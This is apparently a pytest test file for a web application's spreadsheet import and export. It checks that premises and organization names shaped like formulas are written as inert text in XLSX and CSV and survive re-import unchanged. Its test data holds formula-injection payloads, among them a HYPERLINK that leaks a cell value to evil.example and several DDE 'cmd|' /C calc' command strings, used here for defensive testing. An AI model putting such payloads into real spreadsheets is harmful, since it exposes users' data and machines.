"""Spreadsheet formula injection (issue 11, item 11): names that look like formulas export inert.

A premises or an organization named ``=HYPERLINK(...)`` or ``=cmd|' /C calc'!A0`` is accepted on
import (it is just a name), but an export must never hand it to a spreadsheet as a live formula:
XLSX writes it as a string cell (never ``<f>``), CSV puts a guard quote in front, and re-importing
either export gives back the original name. Numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session, sessionmaker
from tests.factories import World

from lanyan.core.actor import SYSTEM
from lanyan.core.config import Settings
from lanyan.exchange.formats import (
    FORMULA_STARTS,
    formula_like,
    inert_csv_text,
    inert_xlsx_cell,
    strip_csv_guard,
)
from lanyan.stats.report import write_yearly_report

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看整改通知")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝HYPERLINK(“http://evil.example”)",
    "＋1＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.fixture(scope="module")
def settings(database_url: str) -> Settings:
    """No road file for this module: its rows sit in London on purpose (a real negative
    longitude), which the import's distance-to-road check would rightly refuse on the demo's roads.
    """
    return Settings(
        database_url=database_url, login_max_failures=5, login_window_seconds=300, road_file=None
    )


PREMISES_HEADER = ["external_id", "name", "category", "venue_type", "org_external_id", "lon", "lat"]
NEGATIVE_LON = -0.1278
"""A real negative number in a numeric column: it must stay a number in both exports."""


def _premises_rows() -> list[list[Any]]:
    return [
        [f"fx:premises:{i}", name, "key_unit", "shopping", "t:brigade:a", NEGATIVE_LON, 51.5]
        for i, name in enumerate(FORMULA_NAMES)
    ]


def _csv(header: list[str], rows: list[list[Any]]) -> bytes:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8")


def _import(client: TestClient, world: World, entity: str, name: str, content: bytes) -> Any:
    r = client.post(
        f"/api/exchange/{entity}/import",
        headers=world.headers("admin_a"),
        files={"file": (name, content, "application/octet-stream")},
    )
    assert r.status_code == 200, r.text
    return r.json()


def _export(client: TestClient, world: World, entity: str, fmt: str) -> bytes:
    r = client.get(
        f"/api/exchange/{entity}/export",
        params={"format": fmt},
        headers=world.headers("admin_a"),
    )
    assert r.status_code == 200, r.text
    return r.content


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return "".join(archive.read(n).decode("utf-8") for n in names)


@pytest.fixture(scope="module")
def imported(app_client: TestClient, world: World) -> None:
    """Premises and an organization with formula-like names, imported through the API."""
    report = _import(
        app_client, world, "premises", "premises.csv", _csv(PREMISES_HEADER, _premises_rows())
    )
    assert report["created"] == len(FORMULA_NAMES)
    orgs = _csv(
        ["external_id", "name", "kind", "parent_external_id", "lon", "lat"],
        [["fx:team:1", "=cmd|' /C calc'!A0", "volunteer_team", "t:brigade:a", 9.53, 47.15]],
    )
    assert _import(app_client, world, "organizations", "orgs.csv", orgs)["created"] == 1


def test_xlsx_export_has_no_formula_and_keeps_the_text(
    app_client: TestClient, world: World, imported: None
) -> None:
    content = _export(app_client, world, "premises", "xlsx")
    assert "<f>" not in _sheet_xml(content)  # no formula element anywhere in the file
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    name_col, lon_col = header.index("name"), header.index("lon")
    names: dict[str, Any] = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        if str(row[0].value).startswith("fx:"):
            names[row[0].value] = row[name_col]
            assert row[lon_col].data_type == "n"
            assert row[lon_col].value == pytest.approx(NEGATIVE_LON)
    assert sorted(c.value for c in names.values()) == sorted(FORMULA_NAMES)
    # Excel's quote prefix: the cell stays text even after someone edits it
    assert all(c.data_type == "s" and c.quotePrefix for c in names.values())


def test_csv_export_guards_formula_text_with_a_quote(
    app_client: TestClient, world: World, imported: None
) -> None:
    content = _export(app_client, world, "premises", "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header = rows[0]
    name_col, lon_col = header.index("name"), header.index("lon")
    ours = [r for r in rows[1:] if r[0].startswith("fx:")]
    assert sorted(r[name_col] for r in ours) == sorted("'" + n for n in FORMULA_NAMES)
    assert all(float(r[lon_col]) == pytest.approx(NEGATIVE_LON) for r in ours)
    assert all(r[lon_col].startswith("-") for r in ours)  # a number, not guarded
    for r in rows[1:]:
        for value in r:
            assert not formula_like(value), (r[0], value)
    orgs = _export(app_client, world, "organizations", "csv").decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in orgs


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reimporting_an_export_gives_back_the_original_names(
    app_client: TestClient, world: World, imported: None, fmt: str
) -> None:
    for entity in ("premises", "organizations"):
        content = _export(app_client, world, entity, fmt)
        report = _import(app_client, world, entity, f"again.{fmt}", content)
        # nothing changed: the guard quote did not end up in any name
        assert (report["created"], report["updated"]) == (0, 0), report
    r = app_client.get(
        "/api/premises", params={"q": "cmd", "limit": 100}, headers=world.headers("admin_a")
    )
    assert r.status_code == 200, r.text
    stored = {p["name"] for p in r.json()["items"]}
    assert {n for n in FORMULA_NAMES if "cmd" in n} <= stored
    assert not any(name.startswith("'") for name in stored)


def test_every_formula_start_is_guarded_and_undone() -> None:
    for start in sorted(FORMULA_STARTS):
        text = f"{start}1+cmd|' /C calc'!A0"
        assert formula_like(text)
        guarded = inert_csv_text(text)
        assert guarded == "'" + text
        assert strip_csv_guard(guarded) == text
    for text in ["-12.5", "+8613800000000", "1e-3", "普通名称", "A=B", "'已有引号"]:
        assert inert_csv_text(text) == text
        assert strip_csv_guard(text) == text
    assert inert_csv_text(-3) == -3


def test_xlsx_helper_writes_text_for_formulas_and_error_codes() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    values = ["=1+1", "#N/A", "@A1", "\t=1", "text", -4.5, 7]
    sheet.append([inert_xlsx_cell(sheet, v) for v in values])
    out = io.BytesIO()
    book.save(out)
    row = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [c.value for c in row] == values
    assert [c.data_type for c in row] == ["s", "s", "s", "s", "s", "n", "n"]


def test_yearly_report_workbook_writes_names_as_text(
    app_client: TestClient,
    world: World,
    session_factory: sessionmaker[Session],
    imported: None,
    tmp_path: Path,
) -> None:
    """A brigade named like a formula reaches the report's 各大队警情 sheet as text."""
    evil = '=HYPERLINK("http://evil.example","大队")'
    r = app_client.patch(
        f"/api/forces/organizations/{world.b.brigade_id}",
        json={"name": evil},
        headers=world.headers("admin_det"),
    )
    assert r.status_code == 200, r.text
    with session_factory() as session:
        _, xlsx_path = write_yearly_report(
            session, actor=SYSTEM, year=2025, org_id=None, out_dir=tmp_path
        )
    content = xlsx_path.read_bytes()
    assert "<f>" not in _sheet_xml(content)
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == evil and c.data_type == "s" for c in cells), "the brigade is listed"
